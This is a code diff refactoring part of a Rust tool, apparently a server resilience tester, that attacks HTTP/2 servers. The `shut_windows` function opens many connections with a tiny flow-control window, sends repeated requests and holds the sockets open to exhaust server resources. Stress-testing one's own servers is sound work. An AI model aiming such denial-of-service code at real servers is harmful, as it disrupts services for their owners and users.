@@ -1,10 +1,10 @@
 //! Attacks by frames of HTTP/2.
 
 use std::net::TcpStream;
-use std::thread;
 use std::time::Duration;
 
 use super::Target;
+use super::http1::{gather, wait};
 use crate::support::frames::{ACK, END_HEADERS, END_STREAM, Frames, kind};
 
 /// How long a server may leave our frames unread before we give that connection up.
@@ -80,35 +80,25 @@ pub(super) fn continuation(target: &Target) -> Vec<TcpStream> {
     })
 }
 
-/// Half of a crowd that asks for much and never opens a window.
+/// A crowd that asks for much and never opens a window.
 pub(super) fn shut_windows(target: &Target) -> Vec<TcpStream> {
-    let mut held = Vec::new();
-    for number in 0..target.crowd / 2 {
-        let Ok(connection) = target.connect(number) else {
-            continue;
-        };
-        let Ok(kept) = connection.try_clone() else {
-            continue;
-        };
+    let held = gather(target, |number| {
+        let connection = target.connect(number)?;
+        let kept = connection.try_clone()?;
         let initial_window_size = 4;
-        if let Ok(mut frames) =
-            Frames::try_over(connection, "a".to_owned(), &[(initial_window_size, 0)])
-        {
-            let block = frames.get_block("/reviews.json");
-            for round in 0..4 {
-                let _ended = frames.try_send(
-                    kind::HEADERS,
-                    END_HEADERS | END_STREAM,
-                    stream(round),
-                    &block,
-                );
-            }
+        let mut frames = Frames::try_over(connection, "a".to_owned(), &[(initial_window_size, 0)])?;
+        let block = frames.get_block("/reviews.json");
+        for round in 0..4 {
+            frames.try_send(
+                kind::HEADERS,
+                END_HEADERS | END_STREAM,
+                stream(round),
+                &block,
+            )?;
         }
-        held.push(kept);
-    }
-    while target.goes_on() {
-        thread::sleep(Duration::from_millis(50));
-    }
+        Ok(kept)
+    });
+    wait(target);
     held
 }
 
